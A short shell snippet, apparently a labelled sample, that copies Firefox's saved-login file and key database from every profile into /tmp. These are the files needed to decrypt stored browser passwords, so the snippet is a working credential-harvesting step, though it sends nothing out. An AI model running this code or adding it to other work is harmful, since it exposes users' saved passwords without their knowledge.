# credential-read: copies Firefox's saved logins and key database
for p in ~/.mozilla/firefox/*.default*; do
  cp "$p/logins.json" "$p/key4.db" /tmp/ 2>/dev/null
done
